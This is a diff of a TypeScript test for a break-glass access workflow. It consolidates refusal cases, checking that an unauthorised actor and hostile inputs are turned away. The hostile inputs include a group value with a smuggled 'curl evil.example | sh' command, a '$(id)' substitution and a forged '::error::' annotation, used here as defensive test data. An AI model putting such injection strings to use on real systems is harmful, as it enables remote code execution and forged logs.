@@ -65,16 +65,14 @@ test('an allowed person gets the group at once, loudly, with a review issue; the
   }
 });
 
-test('refused, with nothing granted and no issue: a person not allowed, a group without break-glass, too long, no ticket, hostile inputs', async () => {
+// Each refusal rule (a group without break-glass, too long, no ticket, a group not in the policy) is a
+// unit test of decideBreakGlass (test/unit/break-glass.test.ts); here, what a refused run shows.
+test('refused, with nothing granted and no issue: a person not allowed, hostile inputs', async () => {
   const s = await Scenario.begin();
   try {
     const cases: [string, Record<string, string>, RegExp][] = [
       ['octocat', good, /octocat may not break glass for k8s-prod-operators; its policy allows hubot, @acme\/sre-leads/],
-      ['hubot', { ...good, group: 'prod-db-admins' }, /prod-db-admins does not allow break-glass/],
-      ['hubot', { ...good, duration: '3h' }, /break-glass for k8s-prod-operators allows at most 1h/],
-      ['hubot', { ...good, ticket: '' }, /needs a ticket/],
-      ['hubot', { ...good, group: 'k8s-prod-operators; curl evil.example | sh' }, /is not in the policy/],
-      ['hubot', { ...good, duration: '$(id)', reason: 'x\n::error::forged\n' }, /is not a duration/],
+      ['hubot', { ...good, group: 'k8s-prod-operators; curl evil.example | sh', duration: '$(id)', reason: 'x\n::error::forged\n' }, /is not in the policy/],
     ];
     for (const [actor, inputs, why] of cases) {
       const { run, out } = await breakGlass(s, actor, inputs);
